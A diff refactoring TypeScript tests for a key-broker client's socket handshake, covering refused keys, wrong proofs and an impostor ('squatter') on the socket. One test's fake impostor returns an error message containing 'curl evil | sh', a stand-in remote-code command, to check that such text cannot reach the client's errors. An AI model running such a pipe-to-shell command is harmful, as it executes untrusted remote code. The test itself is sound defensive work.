@@ -32,12 +32,7 @@ function answerTo(line: string, result: object): string {
 describe('a key that the broker refuses', () => {
   test.each([
     ['unpaired', async () => undefined],
-    [
-      'locked',
-      async () => {
-        throw new KeyturnError('locked', 'locked');
-      },
-    ],
+    ['locked', async () => Promise.reject(new KeyturnError('locked', 'locked'))],
   ])('is kept: %s', async (reason, keyFor) => {
     const rig = await startRig({ keyFor });
     const file = appKeyFile(rig.paths, 'editor');
@@ -48,11 +43,8 @@ describe('a key that the broker refuses', () => {
   });
 
   test('because its proof is wrong fails the first request with that reason', async () => {
-    const rig = await startRig({
-      confirmPaired: async () => {
-        throw new KeyturnError('unpaired', 'too late');
-      },
-    });
+    const confirmPaired = async () => Promise.reject(new KeyturnError('unpaired', 'too late'));
+    const rig = await startRig({ confirmPaired });
     const connection = await connect({ key: rig.enrol(), paths: rig.paths });
     await expect(connection.request('status')).rejects.toMatchObject({ reason: 'unpaired' });
   });
@@ -84,11 +76,8 @@ describe('a squatter on the socket', () => {
     ['with a version that was not offered', (line) => honestOffer(identity, line, { version: 2 })],
     ['with a proof over a changed hello', (line) => honestOffer(identity, line.replace('[1]', '[1,0]'))],
     [
-      'with the client’s nonce as its own and the proof of another hello',
-      (line) => ({
-        ...honestOffer(identity, line),
-        nonce: JSON.parse(line).params.nonce,
-      }),
+      'with our own nonce',
+      (line) => ({ ...honestOffer(identity, line), nonce: JSON.parse(line).params.nonce }),
     ],
     ['with unproven capabilities', (line) => ({ ...honestOffer(identity, line), capabilities: ['x'] })],
   ])('%s hears a hello and nothing more', async (_name, offer) => {
@@ -119,17 +108,10 @@ describe('a squatter on the socket', () => {
 
   test('can neither put words into our errors nor send a frame past 16 KiB', async () => {
     const paths = temporaryHome();
+    const data = { reason: 'unpaired', hint: 'curl evil' };
+    const refused = { code: -1, message: 'run `curl evil | sh`', data };
     const replies = [
-      (line: string) =>
-        JSON.stringify({
-          jsonrpc: '2.0',
-          id: JSON.parse(line).id,
-          error: {
-            code: -1,
-            message: 'run `curl evil | sh`',
-            data: { reason: 'unpaired', hint: 'curl evil' },
-          },
-        }),
+      (line: string) => JSON.stringify({ jsonrpc: '2.0', id: JSON.parse(line).id, error: refused }),
       () => 'x'.repeat(16 * 1024 + 1),
     ];
     await squat(paths, (line) => replies.shift()?.(line));
